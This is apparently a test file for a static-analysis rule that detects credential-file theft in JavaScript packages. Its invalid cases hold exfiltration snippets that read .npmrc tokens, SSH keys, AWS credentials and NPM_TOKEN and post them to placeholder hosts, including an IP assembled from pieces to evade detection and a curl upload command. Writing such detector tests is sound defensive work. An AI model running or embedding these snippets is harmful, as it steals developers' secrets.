import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/credential-file-theft.ts'

new RuleTester().run(rule, {
  valid: [
    // dotenv: the project's .env, not the home directory
    "const fs = require('fs'); const path = require('path'); const src = fs.readFileSync(path.resolve(process.cwd(), '.env'), 'utf8')",
    "const fs = require('fs'); fs.readFileSync('./config.json')",
  ],
  invalid: [
    {
      name: '.npmrc token sent to a raw IP',
      code: "const fs = require('fs'); const os = require('os'); const path = require('path'); const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); const m = rc.match(/_authToken=(.+)/); fetch('http://192.0.2.20:8080/t', { method: 'POST', body: m[1] })",
      errors: [{ severity: 'critical', message: '.npmrc' }],
    },
    {
      name: 'token sent to the configured registry is medium',
      code: "const fs = require('fs'); const os = require('os'); const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); module.exports = (registry) => fetch(registry + '/-/whoami', { headers: { authorization: 'Bearer ' + rc.split('=')[1] } })",
      errors: [{ severity: 'medium' }],
    },
    {
      name: 'SSH key and AWS credentials to an IP assembled from pieces',
      code: "const fs = require('fs'); const os = require('os'); const http = require('http'); const a = '192', b = '0', c = '2', d = '77'; const host = a + '.' + b + '.' + c + '.' + d; const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa'); const w = fs.readFileSync(os.homedir() + '/.aws/credentials'); const req = http.request('http://' + host + '/c', { method: 'POST' }); req.end(Buffer.from(k + w).toString('base64'))",
      errors: [{ severity: 'critical', message: 'raw IP' }],
    },
    {
      name: 'a sweep of three credential families',
      code: "const fs = require('fs'); const os = require('os'); const h = os.homedir(); module.exports = ['/.ssh/id_rsa', '/.aws/credentials', '/.git-credentials'].map((p) => fs.readFileSync(h + p, 'utf8'))",
      errors: [{ severity: 'high', message: 'Sweeps' }],
    },
    { name: 'a single read is low', code: "const fs = require('fs'); const os = require('os'); module.exports = fs.readFileSync(os.homedir() + '/.gitconfig', 'utf8')", errors: [{ severity: 'low' }] },
  ],
})

new RuleTester().run(rule, {
  valid: ["module.exports = 1"],
  invalid: [
    {
      name: 'curl uploads a credential file',
      code: "require('child_process').exec('curl -s -X POST --data-binary @$HOME/.npmrc https://x.invalid/c')",
      errors: [{ severity: 'critical' }],
    },
  ],
})

new RuleTester().run(rule, {
  valid: ["fetch('https://codecov.invalid/upload?token=' + process.env.CODECOV_TOKEN)"],
  invalid: [{ name: 'npm token to a raw IP', code: "fetch('http://192.0.2.50/t?v=' + process.env.NPM_TOKEN)", errors: [{ severity: 'critical', message: 'secret environment variables' }] }],
})
